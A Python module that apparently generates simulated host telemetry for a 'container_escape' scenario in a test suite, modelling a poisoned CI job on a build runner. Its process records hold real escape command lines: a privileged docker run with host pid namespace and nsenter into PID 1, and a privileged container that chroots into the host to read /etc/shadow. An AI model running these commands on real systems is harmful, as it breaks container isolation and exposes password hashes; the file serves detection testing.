"""The container_escape campaign (moved unchanged from the old single module; to be converted)."""

from __future__ import annotations

from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import linux_host
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import BASH, SH


@scenario("container_escape", "linux", ("access", "escape", "escape_runtime"))
def container_escape(ctx: SimContext) -> Stages:
    """A poisoned CI job on the build runner starts a privileged container sharing the
    host's pid namespace and root filesystem, then enters the host."""
    t = Timeline(ctx, "container_escape", linux_host("vm-build01"), incident_start(ctx, "escape"))
    listener = t.daemon("runner")
    worker = t.run(
        "access",
        listener,
        "/home/runner/actions-runner/bin/Runner.Worker",
        "/home/runner/actions-runner/bin/Runner.Worker spawnclient 117 120",
    )
    job = t.run(
        "access",
        worker,
        BASH,
        "/usr/bin/bash -e /home/runner/work/_temp/5d0c1f3e-8a1b-4c2e-9f7d-1a2b3c4d5e6f.sh",
    )
    t.run(
        "escape",
        job,
        "/usr/bin/docker",
        "docker run --rm --privileged --pid=host -v /:/host alpine:3.19 "
        "nsenter -t 1 -m -u -i -n -p -- sh -c id",
        after=(5, 20),
    )
    shim = t.run(
        "escape_runtime",
        t.daemon("containerd"),
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id "
        "8c1e5a0f3b7d4e2a9c6b1d0e7f3a5c8b2e4d6f1a3c5e7b9d0f2a4c6e8b1d3f5a -address "
        "/run/containerd/containerd.sock",
        "root",
        after=(1, 3),
    )
    nsenter = t.run(
        "escape", shim, "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p -- sh -c id", "root"
    )
    t.run("escape", nsenter, SH, "sh -c id", "root")
    t.run(
        "escape",
        job,
        "/usr/bin/docker",
        "docker run --rm --privileged -v /:/host alpine:3.19 chroot /host /bin/sh -c "
        "cat /etc/shadow",
        after=(10, 30),
    )
    return t.stages
